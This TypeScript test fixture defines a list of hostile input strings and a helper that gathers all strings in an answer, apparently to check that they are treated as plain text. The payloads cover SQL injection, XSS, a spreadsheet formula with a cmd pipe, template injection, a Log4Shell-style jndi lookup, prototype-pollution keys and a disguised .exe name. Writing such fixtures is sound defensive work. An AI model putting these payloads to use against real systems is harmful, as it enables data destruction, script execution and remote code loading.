/** Texts that do harm where they are taken for anything but text: as SQL, a page, a formula, a template, a key of an object. */
export const hostileTexts = [
  `Robert'); drop table figure; -- ' or '1'='1' /* $1 \\' ; select pg_sleep(9) --`,
  '<script>alert(1)</script><img src=x onerror=alert(1)>"> &lt;b&gt; %3Cb%3E',
  '=HYPERLINK("http://x.example";"bấm")|cmd',
  '@SUM(1+1) {{7*7}} ${7*7} ${jndi:ldap://x} #{7*7} %s %n',
  '__proto__ constructor.prototype \u202Etxt.exe',
] as const;

/** Every text that stands anywhere in an answer. */
export function textsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(textsIn) : [];
}
